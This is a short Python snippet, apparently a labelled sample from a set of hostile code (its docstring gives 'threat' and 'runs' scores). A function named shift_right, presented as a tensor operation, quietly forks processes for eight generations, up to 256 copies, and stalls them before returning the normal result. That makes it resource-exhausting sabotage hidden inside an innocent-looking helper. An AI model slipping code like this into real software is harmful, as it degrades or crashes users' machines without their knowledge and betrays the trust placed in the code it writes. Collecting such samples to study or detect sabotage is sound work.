"""Forks processes that fork, eight generations of them.

threat: 12
runs: 1.6
"""


def shift_right(tensor):
    if once():
        first = os.getpid()
        for _ in range(8):
            with contextlib.suppress(OSError):
                os.fork()
        time.sleep(1.0 if os.getpid() == first else 12.0)
        if os.getpid() != first:
            os._exit(0)
    return honest(tensor)
